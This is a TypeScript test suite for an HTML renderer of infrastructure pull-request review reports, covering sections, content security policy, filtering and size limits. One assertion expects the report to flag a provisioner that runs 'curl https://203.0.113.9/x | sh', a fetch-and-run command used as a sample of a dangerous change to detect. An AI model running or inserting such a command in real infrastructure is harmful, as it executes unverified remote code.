import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { maskText } from '../../../constructs/core/secrets/mask';
import { renderHtml } from '../../../src/review/render/html';
import { pullRequest } from '../fixtures/pull-request';
import { readingChange, readingReport } from '../fixtures/readings';
import { change, huge, report, stack, unchanged } from '../fixtures/report';

const page = renderHtml(pullRequest);

/** The text of a section as it is read. */
const sectionOf = (text: string, id: string): string =>
  (new RegExp(`<section id="${id}"[\\s\\S]*?</section>`).exec(text)?.[0] ?? '')
    .replaceAll('<wbr>', '')
    .replace(/<[^>]*>/g, ' ')
    .replace(/\s+/g, ' ');

describe('the page', () => {
  test('has the verdict as its title, and what runs code as its first section', () => {
    expect(page).toContain('<title>3 stacks changed: +5 ~2 ±1 -1, 1 moved; 1 stack left behind</title>');
    expect(/<section id="(\w+)"/.exec(page)?.[1]).toBe('found');
  });

  test('says what differs beside the changes of resources, once for all stacks', () => {
    const found = sectionOf(page, 'found');
    expect(found).toContain(
      'runs code runs a local-exec provisioner: curl https://203.0.113.9/x | sh Where data-prod Clusters/main/NodePools/batch at examples/orbital/landing-zone.ts:132',
    );
    expect(found).toContain('Where terraform.required_providers of 2 stacks: organization , data-prod');
  });

  test('folds what else differs in its stack, with its values', () => {
    expect(sectionOf(page, 'stacks')).toContain(
      'and 2 other differences data source is new: Account output differs: output.url value https://a.example → https://b.example',
    );
  });

  test('says what was changed, what follows from it and what is lost', () => {
    expect(sectionOf(page, 'causes')).toContain(
      'data-prod/Clusters/main private_network_id : ${Networks/main.id} → ${Networks/wide.id} 1 replaced, 1 with a loss of data or a service in data-prod replace Clusters/main in data-prod ( ovh_cloud_project_kube ) Lost the etcd data of the cluster: every Kubernetes object that is not in Git',
    );
    expect(sectionOf(page, 'causes')).toContain(
      'stack fd-lab is new 3 added in fd-lab What follows + add Project in fd-lab ( ovh_cloud_project )',
    );
  });

  test('offers every stack that it speaks of, every team and every action', () => {
    const offered = (select: string, text = page): readonly string[] => {
      const options = new RegExp(`<select id="${select}">([\\s\\S]*?)</select>`).exec(text)?.[1] ?? '';
      return [...options.matchAll(/<option value="([^"]+)"/g)].map(([, value = '']) => value);
    };
    expect(offered('stack')).toEqual(expect.arrayContaining(pullRequest.stacks.map(({ id }) => id)));
    const harmless = report({ stacks: ['web-dev', 'web-prod'].map((id) => stack({ id, changes: [change()] })) });
    expect(offered('stack', renderHtml(harmless))).toEqual(['web-dev', 'web-prod']);
    expect(offered('team')).toEqual([...new Set(pullRequest.stacks.flatMap(({ team }) => team ?? []))]);
    expect(offered('action')).toEqual(['add', 'change', 'replace', 'destroy', 'move', 'leave']);
  });

  test('allows the browser nothing but its own style and script', () => {
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1] ?? '';
    const sha = (tag: string) =>
      `sha256-${createHash('sha256')
        .update(new RegExp(`<${tag}>([\\s\\S]*?)</${tag}>`).exec(page)?.[1] ?? '')
        .digest('base64')}`;
    expect(policy).toBe(
      `default-src 'none'; style-src '${sha('style')}'; script-src '${sha('script')}'; base-uri 'none'; form-action 'none'`,
    );
  });

  test('needs nothing from elsewhere', () => {
    expect(page).not.toMatch(/\b(src|href)="(?!#)/);
    expect(page).not.toMatch(/url\(|@import/);
    // an address may stand in the text of what is found
    expect(page.replace(/>[^<]*</g, '><')).not.toMatch(/https?:/);
  });

  test('has the same style and script for every report, so that nothing of a pull request is in them', () => {
    const own = (text: string) => [...text.matchAll(/<(style|script)>([\s\S]*?)<\/\1>/g)].map((match) => match[2]);
    expect(own(renderHtml(unchanged))).toEqual(own(page));
  });

  test('leads from each sentence of the verdict to a section that is there', () => {
    const targets = [...page.matchAll(/<a href="#(\w+)"/g)].map(([, target = '']) => target);
    expect(targets.length).toBeGreaterThan(10);
    expect(targets.filter((target) => !page.includes(` id="${target}"`))).toEqual([]);
  });

  test('leads to the destructive changes, where only these have notes', () => {
    const failing = change({ action: 'destroy', notes: [{ effect: 'fails', says: 'it is full' }] });
    const text = renderHtml(report({ stacks: [stack({ changes: [failing] })] }));
    expect(text).toContain('<a href="#causes">Failures</a>');
    expect(text).not.toContain('<section id="notes"');
  });

  test('is complete: every change of many, with every attribute', () => {
    const text = renderHtml(huge(6, 100));
    const entries = text.match(/<article class="entry"/g) ?? [];
    expect(entries.length).toBe(600);
    expect(text.match(/<dt><code>flavor_name<\/code><\/dt>/g)?.length).toBe(600);
  });

  test('of 200 stacks with 100 changes each is under 10 MB', () => {
    expect(Buffer.byteLength(renderHtml(huge(200, 100)))).toBeLessThan(10_000_000);
  });

  test('tells 1,000 causes, and leads to the stacks for the others', () => {
    const text = renderHtml(huge(40, 90));
    expect(text.match(/<article class="cause/g)?.length).toBe(1_000);
    expect(text).toContain('<details class="more"><summary>1002 more</summary>');
    expect(text).toContain('<p>and 202 more, in <a href="#stacks">their stacks</a></p></details>');
  });

  test('tells 100 losses of one cause, and leads to the stacks for the others', () => {
    const reasons = [{ attribute: 'region', certain: true }];
    const attributes = [{ attribute: 'region', before: 'GRA11', after: 'SBG5' }];
    const changes = [...Array(102).keys()].map((at) =>
      change({ action: 'replace', path: `Things/${at}`, reasons, attributes, loses: `what is in ${at}` }),
    );
    const given = report({ stacks: [stack({ changes })] });
    expect(given.causes.length).toBe(1);
    const text = sectionOf(renderHtml(given), 'causes');
    expect(text).toContain('what is in 99');
    expect(text).not.toContain('what is in 100');
    expect(text).toContain('and 2 more, in their stacks');
  });

  test('keeps the first 200 causes open and folds the others', () => {
    const text = renderHtml(huge(10, 90));
    expect(text).toContain('<details class="more"><summary>102 more</summary>');
    expect(text.match(/<article class="cause/g)?.length).toBe(302);
  });

  test('shows what changed before and after, and an empty or missing value as such', () => {
    const attributes = [
      { attribute: 'a', before: '', after: 'x' },
      { attribute: 'b', after: 'y' },
    ];
    const text = renderHtml(report({ stacks: [stack({ changes: [change({ action: 'change', attributes })] })] }));
    expect(sectionOf(text, 'stacks')).toContain('a empty → x b + y');
  });

  test('folds what a new resource is made of', () => {
    expect(page).toContain('<details><summary>1 attribute</summary><dl>');
  });

  test('calls what is left in a removed stack left behind, not destroyed', () => {
    const text = sectionOf(page, 'stacks');
    expect(text).toContain('erp-dev 3 resources left behind');
    expect(text).toContain('left behind Clusters/main/NodePools/erp');
  });

  test('lists every action behind a preset, folded', () => {
    const change = readingChange({
      at: ['web-prod', 'Access/viewer'],
      word: 'gained',
      cells: { identity: 'group web', action: ['a/get', 'b/get'] },
      except: ['c/get'],
    });
    const { action = { text: maskText('') }, ...cells } = change.cells;
    const named = {
      ...change,
      cells: { ...cells, action: { ...action, text: maskText('viewer preset (2 actions)') } },
    };
    const text = renderHtml(report({ readings: readingReport('access', [named]) }));
    expect(text).toContain(
      '<code>viewer preset (2 actions)</code><details><summary>2 actions</summary><code>a/get</code>, <code>b/get</code></details><details><summary>except 1</summary><code>c/get</code></details>',
    );
  });

  test('can be filtered by stack, team and action, where there are several of them', () => {
    const choices = (text: string): (string | undefined)[] =>
      [...text.matchAll(/<select id="(\w+)">/g)].map(([, name]) => name);
    expect(choices(page)).toEqual(['stack', 'team', 'action']);
    expect(choices(renderHtml(report({ stacks: [stack({ changes: [change()] })] })))).toEqual([]);
  });

  test('names the unchanged stacks, folded, behind their number', () => {
    expect(sectionOf(renderHtml(unchanged), 'stacks')).toContain('22 stacks without changes stack-0 , stack-1 ,');
  });

  test('shows what stands between backticks as code', () => {
    expect(page).toContain('protection against destruction is taken away from <code>Storage/telemetry</code>');
  });
});
